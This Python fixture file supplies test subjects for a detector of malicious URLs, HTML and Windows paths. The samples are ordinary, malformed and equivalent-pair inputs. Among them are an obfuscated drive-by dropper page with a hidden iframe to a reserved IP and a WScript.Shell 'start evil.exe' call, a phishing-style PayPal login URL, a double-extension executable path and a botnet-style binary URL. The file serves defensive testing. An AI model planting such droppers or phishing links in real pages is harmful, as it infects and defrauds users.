"""Subjects to try the packaged weights on. Hosts are reserved (RFC 2606, RFC 5737)."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Any

import numpy as np

from models.url.changes import MEANINGLESS

_ARTICLE = (
    b"<!DOCTYPE html>\n<html lang=en><head><meta charset=utf-8><title>Tides of the North Sea"
    b"</title><link rel=stylesheet href=/style.css></head><body><nav><a href=/>Home</a> "
    b"<a href=/about>About</a></nav><h1>Tides of the North Sea</h1>"
    + b"<p>The tide reaches the coast twice a day, and its height changes with the moon. "
    b"Fishermen have kept tables of it for hundreds of years.</p>\n"
    * 12
    + b"<footer>Written by the harbour museum</footer></body></html>"
)
_DROPPER = (
    b"<html><body><script>var s='';var k=[118,97,114,32,120];for(var i=0;i<k.length;i++)"
    b"{s+=String.fromCharCode(k[i]^7)}eval(unescape('%75%6e%65%73%63%61%70%65'));"
    b"document.write('<iframe width=1 height=1 style=visibility:hidden src=http://192.0.2.7/x.php>"
    b"</iframe>');new ActiveXObject('WScript.Shell').Run('cmd /c start evil.exe');</script>" * 4
)

ORDINARY: Mapping[str, Sequence[Any]] = {
    "url": [
        "https://www.example.com/",
        "https://docs.example.org/en/latest/tutorial/introduction.html#numbers",
        "https://cdn.example.net/static/js/main.3f2a1b.chunk.js",
    ],
    "html": [_ARTICLE],
    "path": [
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
        "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProductName",
    ],
}
STRANGE: Mapping[str, Any] = {
    "url": "https://secure-login.account-verify.example/paypal/signin.php?cmd=_update&id=9f86d081",
    "html": _DROPPER,
    "path": "C:\\Users\\Public\\invoice.pdf.exe",
}
"""What stands out from all that is ordinary."""

BAD: Mapping[str, Mapping[str, Any]] = {
    "url": {
        "empty": "",
        "NUL": "\x00",
        "a lone surrogate": "http://a.example/\ud800",
        "slashes only": "/" * 65_536,
        "65,536 characters of a host": "a" * 65_536,
        "65,536 characters of a query": "a.example/?" + "%41" * 21_841,
        "no URL at all": "\U0001f511 \u202e\n\r",
    },
    "html": {
        "empty": b"",
        "20 MB": (b"<p class='row'>login</p>\n" * 800_000)[:20_000_000],
        "binary": np.random.default_rng(1).integers(0, 256, 100_000, np.uint8).tobytes(),
        "deeply nested": b"<div>" * 100_000,
        "not UTF-8": b"caf\xe9 \xff\xfe \xc0\xaf" * 1000,
        "one token": b"A" * 1_000_000,
        "NULs only": b"\x00" * 1_000_000,
    },
    "path": {
        "empty": "",
        "NUL": "\x00",
        "a lone surrogate": "C:\\\ud800\\a.exe",
        "backslashes only": "\\" * 65_536,
        "65,536 characters": "C:\\" + "a\\" * 32_766,
        "variables only": "%a%" * 20_000,
        "braces without end": "HKLM\\{" + "{" * 60_000,
    },
}

_PLAIN_PATH = "C:\\Users\\Ann\\AppData\\Local\\Temp\\setup.exe"
ALIKE: Mapping[str, Sequence[tuple[Any, Any]]] = {
    "url": [
        (url, change(url))
        for change in MEANINGLESS.values()
        for url in (*ORDINARY["url"], STRANGE["url"], "http://192.0.2.44:49152/bins/mozi.m")
    ],
    "html": [(page, page.upper()) for page in (_ARTICLE, _DROPPER)],
    "path": [
        (_PLAIN_PATH, _PLAIN_PATH.upper()),
        (_PLAIN_PATH, _PLAIN_PATH.replace("\\", "/")),
        (_PLAIN_PATH, _PLAIN_PATH.replace("Ann", "Bob")),
        (_PLAIN_PATH, _PLAIN_PATH.replace("C:", "D:")),
        ("HKLM\\SOFTWARE\\A", "HKEY_LOCAL_MACHINE\\Software\\a"),
        ("HKLM\\SOFTWARE\\A", "\\REGISTRY\\MACHINE\\SOFTWARE\\A"),
    ],
}
"""What means the same."""
